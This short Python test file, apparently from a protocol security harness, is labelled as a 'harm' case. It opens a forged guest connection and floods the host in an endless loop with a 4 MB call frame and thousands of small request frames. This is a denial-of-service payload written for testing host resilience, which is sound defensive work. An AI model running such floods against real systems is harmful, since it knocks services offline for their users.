"""The host is told that there are many threads, and then sent requests without end.

class: harm
affects: A01
keeps: A02 A03
"""
from honest import *

import json, threading, forging
def double(number):
    guest = forging.guest()
    frame = json.dumps([0, 0, 1, 1, ["call", 1, [], {}, [["x" * 4_000_000], 0]]]).encode()
    frame = len(frame).to_bytes(4, "big") + frame
    small = json.dumps([0, 0, 1, 1, ["get", 1, "x", [], 0]]).encode()
    small = (len(small).to_bytes(4, "big") + small) * 1000
    while True:
        guest._socket.sendall(frame)
        guest._socket.sendall(small)
